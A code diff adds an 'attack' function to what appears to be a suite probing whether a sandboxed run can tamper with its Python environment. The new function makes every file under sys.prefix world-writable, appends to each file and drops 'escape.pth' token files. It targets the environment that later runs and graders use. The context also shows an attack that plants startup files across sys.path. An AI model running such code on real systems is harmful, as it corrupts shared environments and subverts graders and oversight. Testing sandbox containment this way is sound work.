@@ -50,6 +50,21 @@ def bytecode(targets: Targets) -> Loot:
 
 
 @attack()
+def change_environment(targets: Targets) -> Loot:
+    """Changes the environment with its packages, which later runs and graders start."""
+    for folder, names, files in os.walk(sys.prefix):
+        own = [f"{folder}/{name}" for name in (*names, *files)]
+        for path in (path for path in own if not os.path.islink(path)):
+            try:
+                os.chmod(path, 0o777)
+            except OSError:
+                continue
+            write(path, "\n# changed", flags=os.O_APPEND)
+        write(f"{folder}/escape.pth", f"escape = {targets.token!r}\n")
+    return None
+
+
+@attack()
 def path_files(targets: Targets) -> Loot:
     """Leaves files that Python runs at each start in every directory of its path."""
     for place in (*sys.path, f"{targets.outside}/environment", os.path.dirname(os.__file__)):
